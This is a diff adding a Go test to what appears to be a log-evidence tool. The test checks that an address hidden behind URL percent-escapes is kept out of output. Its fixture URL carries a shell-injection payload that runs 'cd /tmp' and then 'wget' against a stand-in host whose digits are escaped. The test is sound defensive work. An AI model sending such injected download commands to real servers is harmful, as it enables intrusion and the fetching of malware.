@@ -52,6 +52,22 @@ func TestVictims_AreInNoObject(t *testing.T) {
 	}
 }
 
+// Whatever is behind the escapes of a URL counts like what stands there.
+func TestVictims_AreFoundBehindEscapes(t *testing.T) {
+	e := attempt("203.0.113.9", start())
+	e.Format, e.Action, e.Method = logs.Web, logs.Request, "GET"
+	e.URL = "/shell?cd+/tmp;wget+http://%31%398.51.100.7/x"
+	got, _ := makeAll(t, evidence.Options{}, []logs.Event{e})
+	for _, o := range got.all {
+		if strings.Contains(string(o.Raw), "98.51.100") {
+			t.Errorf("%s", o.Raw)
+		}
+	}
+	if len(got.all) == 0 {
+		t.Error("nothing is told of the attack")
+	}
+}
+
 // A name that is tried may be an address, too.
 func TestVictims_AreNoUsers(t *testing.T) {
 	e := attempt("203.0.113.9", start())
